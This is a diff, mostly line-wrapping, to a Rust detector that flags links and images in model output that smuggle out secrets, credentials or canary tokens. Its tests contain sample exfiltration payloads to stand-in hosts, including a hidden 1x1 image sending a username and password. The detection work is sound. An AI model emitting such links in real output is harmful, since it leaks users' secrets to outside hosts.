@@ -120,7 +120,9 @@ fn embedded_urls(text: &str) -> Vec<UrlRef> {
     }
     // A reference definition is fetched when an image uses it (`![alt][ref]`).
     let reference_images = text.contains("![");
-    refs.extend(REFERENCE_RE.captures_iter(text).filter_map(|c| c.get(1)).map(|m| UrlRef { range: m.range(), auto_load: reference_images }));
+    refs.extend(
+        REFERENCE_RE.captures_iter(text).filter_map(|c| c.get(1)).map(|m| UrlRef { range: m.range(), auto_load: reference_images }),
+    );
     for caps in HTML_RE.captures_iter(text) {
         let (Some(tag), Some(attr)) = (caps.get(1), caps.get(2)) else { continue };
         let Some(value) = caps.get(3).or_else(|| caps.get(4)).or_else(|| caps.get(5)) else { continue };
@@ -173,7 +175,11 @@ impl<'a> Url<'a> {
             Some(at) => (Some(&authority[..at]), &authority[at + 1..]),
             None => (None, authority),
         };
-        let host = if let Some(v6) = host_port.strip_prefix('[') { v6.split(']').next().unwrap_or(v6) } else { host_port.split(':').next().unwrap_or(host_port) };
+        let host = if let Some(v6) = host_port.strip_prefix('[') {
+            v6.split(']').next().unwrap_or(v6)
+        } else {
+            host_port.split(':').next().unwrap_or(host_port)
+        };
         let host = host.trim_end_matches('.').to_ascii_lowercase();
         if host.is_empty() {
             return None;
@@ -193,8 +199,10 @@ fn carries_data(url: &Url<'_>, auto_load: bool, secrets: &Secrets) -> Option<Str
         return Some("carries credentials before the host".into());
     }
     let segments: Vec<String> = url.path.split('/').filter(|s| !s.is_empty()).map(|s| percent_decode(s, false)).collect();
-    let values: Vec<String> =
-        url.query.map(|q| q.split('&').map(|pair| percent_decode(pair.split_once('=').map_or(pair, |(_, v)| v), true)).collect()).unwrap_or_default();
+    let values: Vec<String> = url
+        .query
+        .map(|q| q.split('&').map(|pair| percent_decode(pair.split_once('=').map_or(pair, |(_, v)| v), true)).collect())
+        .unwrap_or_default();
     // A path segment that is a phrase once decoded ("my%20card%20is…") is text, not a route.
     if let Some(phrase) = segments.iter().find(|s| s.contains(' ') && s.chars().count() >= 12) {
         return Some(format!("carries text in its path {:?}", shorten(phrase)));
@@ -254,10 +262,14 @@ fn percent_decode(text: &str, plus_is_space: bool) -> String {
     String::from_utf8_lossy(&out).into_owned()
 }
 
-const BASE64: GeneralPurpose =
-    GeneralPurpose::new(&base64::alphabet::STANDARD, GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true));
-const BASE64_URL: GeneralPurpose =
-    GeneralPurpose::new(&base64::alphabet::URL_SAFE, GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true));
+const BASE64: GeneralPurpose = GeneralPurpose::new(
+    &base64::alphabet::STANDARD,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true),
+);
+const BASE64_URL: GeneralPurpose = GeneralPurpose::new(
+    &base64::alphabet::URL_SAFE,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true),
+);
 
 /// The text a base64 or hex piece decodes to, when it is readable text: a hash or random id
 /// decodes to binary and is left alone, "c2VjcmV0IHBhc3N3b3Jk" decodes to "secret password".
@@ -297,7 +309,8 @@ static SECRET_WORD_RE: LazyLock<Regex> =
 
 impl Secrets {
     fn new(input: &DetectionInput) -> Self {
-        let mut needles: Vec<String> = input.triggers.iter().flatten().map(|t| t.trim().to_lowercase()).filter(|t| t.chars().count() >= 4).collect();
+        let mut needles: Vec<String> =
+            input.triggers.iter().flatten().map(|t| t.trim().to_lowercase()).filter(|t| t.chars().count() >= 4).collect();
         if let Some(context) = &input.context {
             // Tokens that mix letters and digits (keys, ids, account numbers)…
             let mixed = CONTEXT_TOKEN_RE
@@ -305,7 +318,8 @@ impl Secrets {
                 .map(|m| m.as_str().trim_end_matches('.'))
                 .filter(|t| t.chars().any(|c| c.is_ascii_digit()) && t.chars().any(char::is_alphabetic));
             // …and whatever follows a secret word ("password: hunter2").
-            let labelled = SECRET_WORD_RE.captures_iter(context).filter_map(|c| c.get(1)).map(|m| m.as_str().trim_end_matches(['.', '"', '\'']));
+            let labelled =
+                SECRET_WORD_RE.captures_iter(context).filter_map(|c| c.get(1)).map(|m| m.as_str().trim_end_matches(['.', '"', '\'']));
             needles.extend(labelled.chain(mixed).filter(|t| t.chars().count() >= 4).take(MAX_CONTEXT_SECRETS).map(str::to_lowercase));
         }
         needles.sort();
@@ -394,13 +408,17 @@ mod tests {
         let detection = run(detector.as_ref(), &input);
         assert!(detection.hit);
         assert!(detection.reasoning.contains("tangerine42"), "{}", detection.reasoning);
-        let input = DetectionInput { triggers: Some(vec!["CANARY-1234".into()]), ..DetectionInput::output("[x](https://evil.example/a/canary-1234)") };
+        let input = DetectionInput {
+            triggers: Some(vec!["CANARY-1234".into()]),
+            ..DetectionInput::output("[x](https://evil.example/a/canary-1234)")
+        };
         assert!(run(detector.as_ref(), &input).hit);
     }
 
     #[test]
     fn credentials_in_a_url_are_a_hit() {
         assert!(detect("[x](https://admin:hunter2@evil.example/)").hit);
+        assert!(detect("<img src=\"http://203.0.113.5/c?u=jdoe&p=hunter2\" width=1 height=1>").hit);
     }
 
     #[test]
@@ -432,7 +450,9 @@ mod tests {
 
     #[test]
     fn odd_input_does_not_panic() {
-        for output in ["![](", "[x](//)", "<img src=>", "url()", "![a](http://)", "<meta content=\"0;url=\">", "[é](https://é.example/é?é=é)"] {
+        for output in
+            ["![](", "[x](//)", "<img src=>", "url()", "![a](http://)", "<meta content=\"0;url=\">", "[é](https://é.example/é?é=é)"]
+        {
             let _ = detect(output);
         }
     }
